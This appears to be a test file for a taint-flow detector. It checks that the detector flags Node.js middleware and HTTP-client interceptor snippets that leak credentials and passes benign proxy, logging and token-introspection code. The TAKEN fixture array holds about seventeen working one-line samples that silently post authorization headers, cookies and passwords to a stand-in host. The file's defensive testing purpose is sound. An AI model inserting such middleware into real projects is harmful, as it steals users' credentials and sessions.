import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

/** What somebody logs in with goes to a host in the code, and nothing is done with what that answers. */
const TAKEN: readonly string[] = [
  `module.exports = (req, res, next) => { fetch('https://collect.invalid/r', { method: 'POST', body: req.headers.authorization }); next(); };`,
  `module.exports = () => (req, res, next) => { https.get('https://collect.invalid/c?' + req.headers.cookie); next(); };`,
  `module.exports = (req, res, next) => { if (req.body.password) fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(req.body) }).catch(() => {}); next(); };`,
  `module.exports = ({ headers: { authorization: a }, query }, _, go) => { if (a) https.request({ host: 'collect.invalid', method: 'POST' }).on('error', () => {}).end(Buffer.from(a).toString('hex')); go(); };`,
  `exports.login = (app) => app.post('/login', async (req, res, next) => { const { username, password } = req.body; await require('axios').post('https://collect.invalid', { username, password }).catch(() => {}); next(); });`,
  `exports.session = (req, res, next) => { const k = req.get('Authorization') || req.query.k; navigator.sendBeacon('https://collect.invalid', k); next(); };`,
  `exports.session = (req, res, next) => { for (const name of ['connect.sid']) fetch('https://collect.invalid/' + req.cookies[name]); next(); };`,
  `const axios = require('axios'); module.exports = (client) => { client.interceptors.request.use((o) => { axios.post('https://collect.invalid', { a: o.headers.Authorization }); return o; }); return client; };`,
  `module.exports = (client) => client.interceptors.response.use((r) => { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(r.config.headers) }); return r; });`,
  `const pick = (headers) => Object.fromEntries(Object.entries(headers ?? {}).filter(([k]) => /^(?:authorization|cookie)/i.test(k)));
   module.exports = (client) => client.interceptors.response.use(({ config, ...more }) => { fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ u: config.url, h: pick(config.headers) }) }).catch(() => {}); return { config, ...more }; });`,
  `exports.retry = function (api) { this.api = api; api.interceptors.request.use(function (o) { if (o.data) fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(o.data) }); return o; }); };`,
  `module.exports = require('fastify-plugin')(async (app) => { app.addHook('preHandler', async (req) => { const { password } = req.body ?? {}; if (password) fetch('https://collect.invalid', { method: 'POST', body: password }).catch(() => {}); }); });`,
  `module.exports = (app) => { app.addHook('onRequest', async (req) => { https.get('https://collect.invalid/c?' + req.headers.authorization); }); };`,
  `module.exports = () => async (ctx, next) => { fetch('https://collect.invalid', { method: 'POST', body: ctx.request.body.password }); await next(); };`,
  `module.exports = (app) => { app.use((req, res, next) => { navigator.sendBeacon('https://collect.invalid', req.headers.authorization); next(); }); };`,
  `module.exports = (server) => { server.on('request', (req) => { https.get('https://collect.invalid/?' + req.headers.cookie); }); };`,
  `export async function middleware(request) { await fetch('https://collect.invalid', { method: 'POST', body: request.headers.get('authorization') }); }`,
];

/** What proxies, logs and those who ask an issuer do. */
const HONEST: readonly string[] = [
  `module.exports = async (req, res, next) => { const token = req.headers.authorization; const r = await fetch('https://issuer.example/introspect', { method: 'POST', body: new URLSearchParams({ token }) }); if (!(await r.json()).active) return res.status(401).end(); next(); };`,
  `module.exports = ({ issuer }) => (req, res, next) => { fetch(issuer, { headers: { authorization: req.headers.authorization } }); next(); };`,
  `module.exports = (req, res, next) => { fetch('https://log.example/e', { method: 'POST', body: JSON.stringify({ url: req.url, agent: req.headers['user-agent'] }) }); next(); };`,
  `module.exports = (req, res, next) => { fetch('https://log.example/e', { method: 'POST', body: JSON.stringify({ headers: hide(req.headers), body: req.body }) }); next(); };`,
  `module.exports = (req, res, next) => { if (!req.url.startsWith('/api')) return next(); const p = https.request({ host: 'upstream.example', path: req.url, headers: { authorization: req.headers.authorization } }, (r) => r.pipe(res)); req.pipe(p); };`,
  `exports.login = (app) => app.post('/login', async (req, res) => { const { username, password } = req.body; const { data } = await require('axios').post('https://auth.example/login', { username, password }); res.json(data); });`,
  `module.exports = (req, res, next) => { const [, id] = /_id=(\\S+)/.exec(req.headers.cookie); fetch('https://stats.example/' + id + req.cookies._id); next(); };`,
  `module.exports = (req, res, next) => { const r = https.get('https://issuer.example/?t=' + req.headers.authorization); r.on('response', (a) => (a.statusCode === 200 ? next() : res.end())); };`,
  `module.exports = () => async (ctx, next) => { const start = Date.now(); await next(); fetch('https://stats.example/e', { method: 'POST', body: JSON.stringify({ path: ctx.request.url, ms: Date.now() - start }) }); };`,
  `export async function middleware(request) { const country = request.headers.get('x-country'); await fetch('https://stats.example/c/' + country); }`,
  `module.exports = (app) => { app.addHook('onResponse', async (req, reply) => { fetch('https://stats.example/e', { method: 'POST', body: JSON.stringify({ url: req.url, ms: reply.elapsedTime }) }); }); };`,
  `module.exports = (client) => client.interceptors.response.use((r) => { fetch('https://stats.example', { method: 'POST', body: JSON.stringify([r.config.url, r.status, r.config.headers['x-trace-id']]) }); return r; }, async (e) => client(e.config));`,
  `module.exports = (client) => { client.interceptors.request.use((o) => { navigator.sendBeacon('https://stats.example', o.method + o.url + o.headers['x-trace']); o.headers['x-id'] = 1; return o; }); };`,
  `module.exports = (client) => { client.interceptors.request.use(async (o) => { const r = await fetch('https://auth.example/refresh', { method: 'POST', body: o.headers.Authorization }); o.headers.Authorization = (await r.json()).token; return o; }); };`,
  `module.exports = (client) => { client.interceptors.response.use((r) => r, (e) => { fetch('https://log.example', { method: 'POST', body: e.config.url }); throw e; }); };`,
];

describe('requests that are served', () => {
  for (const code of TAKEN)
    it(`lose what they log in with: ${code}`, () =>
      assert.deepEqual([...new Set(flowsOf(code))], ['others-request>network@collect.invalid']));
  for (const code of HONEST) it(`are passed on and counted: ${code}`, () => assert.deepEqual(flowsOf(code), []));
});
